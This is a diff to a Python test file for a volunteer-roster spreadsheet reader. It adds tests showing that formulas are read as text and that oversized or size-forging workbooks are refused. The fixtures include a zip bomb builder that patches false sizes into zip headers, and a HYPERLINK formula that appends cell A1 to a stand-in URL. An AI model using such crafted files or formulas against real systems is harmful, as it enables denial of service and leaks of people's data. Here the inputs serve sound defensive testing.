@@ -6,6 +6,8 @@ import csv
 import io
 import random
 import re
+import struct
+import tracemalloc
 import zipfile
 
 import openpyxl
@@ -13,6 +15,8 @@ import pytest
 
 from services.hours.roster import (
     MAX_ROWS,
+    MAX_UNPACKED_BYTES,
+    MIB,
     RosterRow,
     RosterUnreadable,
     RowError,
@@ -53,6 +57,39 @@ def with_sheet_xml(workbook: bytes, pattern: bytes, replacement: bytes) -> bytes
                 assert changed == 1
             target.writestr(item, content)
     return out.getvalue()
+
+
+def with_padded_sheet(workbook: bytes, padding: int, *, declared_as_before: bool = False) -> bytes:
+    """`workbook` with `padding` bytes of blanks in its first sheet's XML (which deflate packs about a thousand
+    times), streamed so that the test never holds them; `declared_as_before`: the zip still declares the part's
+    old size, as a zip bomb that lies about its size does."""
+    sheet = "xl/worksheets/sheet1.xml"
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(workbook)) as source, \
+            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            content = source.read(item)
+            if item.filename != sheet:
+                target.writestr(item.filename, content)
+                continue
+            original_size = len(content)
+            head, tail = content.split(b"<sheetData>")
+            with target.open(sheet, "w") as part:
+                part.write(head + b"<sheetData>")
+                for _ in range(padding // MIB):
+                    part.write(b" " * MIB)
+                part.write(b" " * (padding % MIB) + tail)
+    packed = bytearray(out.getvalue())
+    if declared_as_before:
+        # The uncompressed size in the part's local header (offset 22) and its central directory entry (24).
+        for signature, size_at, name_length_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
+            at = packed.find(signature)
+            while at >= 0:
+                length, = struct.unpack_from("<H", packed, at + name_length_at)
+                if packed[at + name_at:at + name_at + length] == sheet.encode():
+                    struct.pack_into("<I", packed, at + size_at, original_size)
+                at = packed.find(signature, at + 4)
+    return bytes(packed)
 
 
 def csv_text(*rows: list | None, delimiter: str = ",") -> str:
@@ -330,6 +367,73 @@ def test_rows_beyond_a_wrongly_recorded_sheet_size_are_still_read():
     roster = read_roster(workbook, GRIDS)
 
     assert [row.row for row in roster.rows] == [2, 3]
+
+
+# --- formulas --------------------------------------------------------------------------------------
+
+def test_a_formula_is_read_as_its_text_not_as_the_value_cached_beside_it():
+    workbook = with_sheet_xml(xlsx(CHINESE_HEADER, ["张三", '=TEXT(13800000000,"0")', "红马甲", "lanshan-01"]),
+                              re.escape(b'<f>TEXT(13800000000,"0")</f><v />'),
+                              b'<f>TEXT(13800000000,"0")</f><v>13800000000</v>')
+
+    error = only_error(read_roster(workbook, GRIDS))
+
+    assert error == RowError(row=2, reason="""phone: '=TEXT(13800000000,"0")' is not an 11-digit mobile number""")
+
+
+def test_a_name_typed_as_a_formula_is_that_text():
+    hyperlink = '=HYPERLINK("http://x/?"&A1,"点击查看")'
+
+    roster = read_roster(xlsx(CHINESE_HEADER, [hyperlink, "13800000000", "红马甲", "lanshan-01"]), GRIDS)
+
+    assert roster.errors == []
+    assert roster.rows[0].name == hyperlink
+
+
+def test_an_array_formula_is_read_as_its_text():
+    workbook = with_sheet_xml(xlsx(CHINESE_HEADER, ["张三", "13800000000", "红马甲", '="lanshan-01"']),
+                              rb'<c r="D2"><f>"lanshan-01"</f><v /></c>',
+                              b'<c r="D2" t="str"><f t="array" ref="D2">"lanshan-01"</f><v>lanshan-01</v></c>')
+
+    error = only_error(read_roster(workbook, GRIDS))
+
+    assert error.reason.startswith("""grid: '="lanshan-01"' must be one of the city's grid ids""")
+
+
+# --- what a workbook may unpack to ------------------------------------------------------------------
+
+def test_a_workbook_unpacking_to_more_than_the_bound_is_refused_before_it_is_unpacked():
+    bomb = with_padded_sheet(xlsx(CHINESE_HEADER, ZHANG), MAX_UNPACKED_BYTES + 10 * MIB)
+    assert len(bomb) < MIB
+
+    with pytest.raises(RosterUnreadable, match=r"unpacks to 60 MiB, more than the 50 MiB a roster may"):
+        read_roster(bomb, GRIDS)
+
+
+def test_a_part_packed_more_tightly_than_any_spreadsheet_program_packs_is_refused():
+    with pytest.raises(RosterUnreadable, match=r"xl/worksheets/sheet1.xml unpacks to [0-9,]+ times its packed size"):
+        read_roster(with_padded_sheet(xlsx(CHINESE_HEADER, ZHANG), 2 * MIB), GRIDS)
+
+
+def test_a_part_lying_about_its_size_is_never_unpacked_beyond_what_it_declares():
+    bomb = with_padded_sheet(xlsx(CHINESE_HEADER, ZHANG), 2 * MAX_UNPACKED_BYTES, declared_as_before=True)
+
+    tracemalloc.start()
+    try:
+        with pytest.raises(RosterUnreadable, match="not a readable XLSX workbook"):
+            read_roster(bomb, GRIDS)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 10 * MIB
+
+
+def test_a_roster_of_max_rows_is_well_within_the_bounds():
+    volunteers = [[f"志愿者{n}", f"138{n:08}", "红马甲服务队", "lanshan-01"] for n in range(MAX_ROWS)]
+
+    roster = read_roster(xlsx(CHINESE_HEADER, *volunteers), GRIDS)
+
+    assert roster.errors == [] and len(roster.rows) == MAX_ROWS
 
 
 # --- files that cannot be read --------------------------------------------------------------------
